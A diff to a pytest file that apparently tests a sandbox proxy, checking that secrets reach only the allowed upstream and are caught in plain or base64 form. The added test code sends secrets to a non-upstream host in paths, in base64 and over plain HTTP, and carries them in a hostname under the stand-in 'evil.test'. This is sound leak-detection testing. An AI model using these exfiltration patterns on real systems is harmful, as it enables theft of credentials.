@@ -8,6 +8,8 @@ likely to leak, so it also stands alone.
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from testbed.expect import Observed, header_values
@@ -24,6 +26,21 @@ def provoke(harness: Harness) -> None:
     harness.https("other.allowed.test:443", "/front", host="api.allowed.test")  # host_mismatch
     harness.https("api.allowed.test:443", "/x", host="user@api.allowed.test")  # bad_request
     harness.connect("ports.allowed.test:443")
+    for secret in harness.secrets:  # issue 43: what the sandbox sends is audited masked
+        harness.https("other.allowed.test:443", f"/leak/{secret}?{secret}=1")  # secret_elsewhere
+        harness.https("other.allowed.test:443", "/leak/" + _base64(secret))
+        harness.plain(f"http://other.allowed.test/leak/{secret}")
+        harness.connect(f"{secret}.evil.test:443")  # not_allowed: the host is the sandbox's
+
+
+def _base64(secret: str) -> str:
+    return base64.urlsafe_b64encode(secret.encode()).decode().rstrip("=")
+
+
+def spellings(secret: str) -> list[str]:
+    """The secret, and its base64 (standard and URL-safe, without the last characters,
+    which a neighbour's bits may change)."""
+    return [secret, base64.b64encode(secret.encode()).decode()[:-4], _base64(secret)[:-3]]
 
 
 def test_secrets_reach_the_upstream_and_nothing_else(harness: Harness, obs: Observed):
@@ -43,7 +60,7 @@ def test_secrets_reach_the_upstream_and_nothing_else(harness: Harness, obs: Obse
             places[f"response {i} refusal body"] = response.body.decode(errors="replace")
 
     for secret in harness.secrets:
-        leaked = [where for where, text in places.items() if secret in text]
+        leaked = [where for where, text in places.items() for s in spellings(secret) if s in text]
         assert leaked == [], f"secret found in: {leaked}"
 
 
